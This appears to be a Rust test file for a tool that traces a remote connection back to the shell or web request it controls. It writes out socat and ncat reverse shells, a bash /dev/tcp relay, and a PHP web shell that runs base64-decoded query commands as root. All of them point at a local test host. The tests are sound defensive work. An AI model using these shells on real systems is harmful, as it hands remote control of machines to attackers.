//! Real programs from Debian's packages that hand requests on, or steer a shell.

use std::fs;
use std::path::Path;

use nix::sys::signal::Signal;
use serde_json::Value;
use tests::{Far, in_fresh_netns, skip, until};

use super::{answered, came_from, kinds};
use crate::tools::{LOOP, Scene};
use crate::trace::{OUT, Recording};

/// Shell code that connects out and waits for the end of the connection.
fn code(far: &Far) -> String {
    format!("exec 3<>/dev/tcp/{}/{OUT}; read -r line <&3; exit", far.ip)
}

#[test]
fn shells_behind_relays_lead_to_the_connection_that_steers_them() {
    let forms = [
        ("terminal", "socat tcp-connect:IP:4444 exec:/bin/bash,pty,stderr,setsid,sane"),
        // Who reads faster than the writer's call returns is led by its stream, where functions cannot be probed.
        ("unix or message", "socat tcp-connect:IP:4444 exec:/bin/bash"),
        ("pipe", "socat tcp-connect:IP:4444 exec:/bin/bash,pipes"),
        ("pipe", "ncat IP 4444 -e /bin/bash"),
        ("pipe", "/usr/bin/python3 /tmp/loop.py IP 4444 /bin/bash"),
    ];
    for (kind, line) in forms {
        in_fresh_netns(|| {
            let name = "gallery::shells::shells_behind_relays_lead_to_the_connection_that_steers_them";
            let Some(mut scene) = Scene::new(name) else { return };
            let recording = Recording::begin();
            scene.has("/tmp/loop.py", LOOP);
            let far = Far::away();
            let (back, out) = (far.listen(4444), far.listen(OUT));
            let line = line.replace("IP", &far.ip);
            scene.start(&line.split(' ').collect::<Vec<_>>());
            back.connected();
            back.send(&format!("{}\n", code(&far)));
            answered(out);
            drop(scene);
            let found = recording.ask(&far.ip);
            let steps = kinds(&found);
            assert!(kind.split(" or ").any(|kind| steps[1] == kind), "{line}: {found:#}");
            assert_eq!((steps[0], steps[2]), ("process", "connection"), "{line}: {found:#}");
            let controls = &found["chain"][2]["connection"];
            assert_eq!(controls["remote"]["port"], 4444, "{line}: {found:#}");
        });
    }
}

/// A FIFO, a shell and a client of the network, without cat. The shell's parent has none of it.
#[test]
fn shell_on_a_fifo_leads_to_the_connection_that_steers_it() {
    in_fresh_netns(|| {
        let name = "gallery::shells::shell_on_a_fifo_leads_to_the_connection_that_steers_it";
        let doctor: Value = serde_json::from_slice(&tests::doctor_says().stdout).unwrap();
        let jobs = doctor["jobs"].as_array().unwrap();
        if !jobs.iter().any(|job| job["job"] == "pipe" && job["probe"].is_string()) {
            return skip(name, "writes to pipes are not followed where functions cannot be probed");
        }
        let recording = Recording::begin();
        let far = Far::away();
        let folder = tempfile::tempdir().unwrap();
        let fifo = folder.path().join("fifo");
        nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
        let (back, out) = (far.listen(4444), far.listen(OUT));
        // The client, by what every guest has.
        let relay =
            format!("exec 4<>/dev/tcp/{}/4444; while read -r line <&4; do echo \"$line\"; done", far.ip);
        let start =
            |line: &str| tests::Running::start(std::process::Command::new("/bin/bash").args(["-c", line]));
        let shell = start(&format!("exec bash < {}", fifo.display()));
        let client = start(&format!("exec > {}; {relay}", fifo.display()));
        back.connected();
        back.send(&format!("{}\n", code(&far)));
        answered(out);
        drop((shell, client));
        let found = recording.ask(&far.ip);
        assert_eq!(kinds(&found)[..3], ["process", "pipe", "connection"], "{found:#}");
        assert_eq!(found["chain"][2]["connection"]["remote"]["port"], 4444, "{found:#}");
    });
}

const NGINX: &str = "daemon off; worker_processes 1; user root; pid /tmp/nginx.pid; error_log /tmp/nginx.log;
events {}
http { server { listen 80; root /tmp;
location ~ php$ { include /etc/nginx/fastcgi_params;
fastcgi_param SCRIPT_FILENAME /tmp/shell.php; fastcgi_pass unix:/tmp/php.sock; } } }
";

const FPM: &str = "[global]
error_log = /tmp/fpm.log
[www]
user = root
group = root
listen = /tmp/php.sock
pm = static
pm.max_children = 1
";

/// The pid of the only child.
fn child(of: u32) -> Option<u32> {
    let children = fs::read_to_string(format!("/proc/{of}/task/{of}/children")).ok()?;
    children.trim().parse().ok()
}

fn sleeps(pid: u32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| stat.contains(") S "))
}

/// Whether a process has a UNIX socket with a connection to php-fpm.
fn asks(pid: u32) -> bool {
    let sockets = fs::read_to_string(format!("/proc/{pid}/net/unix")).unwrap_or_default();
    let unix: Vec<_> = sockets.lines().filter_map(|line| line.split_whitespace().nth(6)).collect();
    let links = fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
    let inodes = links.filter_map(|link| {
        let to = fs::read_link(link.path()).ok()?;
        Some(to.to_str()?.strip_prefix("socket:[")?.strip_suffix(']')?.to_owned())
    });
    // One to its master process it has always.
    inodes.filter(|inode| unix.contains(&inode.as_str())).count() > 1
}

#[test]
fn web_shell_behind_php_fpm_leads_to_the_client() {
    in_fresh_netns(|| {
        let Some(mut scene) = Scene::new("gallery::shells::web_shell_behind_php_fpm_leads_to_the_client")
        else {
            return;
        };
        let recording = Recording::begin();
        let far = Far::away();
        let out = far.listen(OUT);
        scene.has("/tmp/nginx.conf", NGINX);
        scene.has("/tmp/fpm.conf", FPM);
        scene.has("/tmp/shell.php", "<?php system(base64_decode($_GET['c']));\n");
        scene.has("/tmp/command", &format!("{}\n", code(&far)));
        let fpm: Vec<_> = scene.debian.inside(|| {
            let folder = fs::read_dir("/usr/sbin").unwrap().flatten().map(|entry| entry.path());
            folder.filter(|path| path.to_str().is_some_and(|path| path.contains("php-fpm"))).collect()
        });
        scene.start(&[fpm[0].to_str().unwrap(), "-F", "-R", "-y", "/tmp/fpm.conf"]);
        scene.start(&["/usr/sbin/nginx", "-c", "/tmp/nginx.conf"]);
        let [php, nginx] = [0, 1].map(|nth| scene.running[nth].pid());
        let is_there = |path: &str| scene.debian.inside(|| Path::new(path).exists());
        until("both serve", || {
            is_there("/tmp/php.sock")
                && is_there("/tmp/nginx.pid")
                && [php, nginx].map(child).iter().all(Option::is_some)
        });
        let [php, nginx] = [php, nginx].map(|pid| child(pid).unwrap());
        let neighbour = far.connect(80);
        neighbour.send("GET /other");
        let client = far.connect(80);
        // It reads the request when nginx has written it: see the actor's `serve`.
        let signal =
            |signal| nix::sys::signal::kill(nix::unistd::Pid::from_raw(php.cast_signed()), signal).unwrap();
        signal(Signal::SIGSTOP);
        // bash /tmp/command
        client.send("GET /a.php?c=YmFzaCAvdG1wL2NvbW1hbmQ= HTTP/1.0\r\n\r\n");
        until("nginx has asked php-fpm", || asks(nginx) && sleeps(nginx));
        signal(Signal::SIGCONT);
        answered(out);
        drop(scene);
        let found = recording.ask(&far.ip);
        came_from(&found, &far, client.port);
        let steps = kinds(&found);
        assert!(steps.contains(&"message"), "{found:#}");
        let message =
            &found["chain"].as_array().unwrap()[steps.iter().position(|kind| *kind == "message").unwrap()];
        assert!(message["why"].as_str().unwrap().contains("/tmp/php.sock"), "{message:#}");
        assert_eq!(message["process"]["comm"], "nginx", "{message:#}");
    });
}
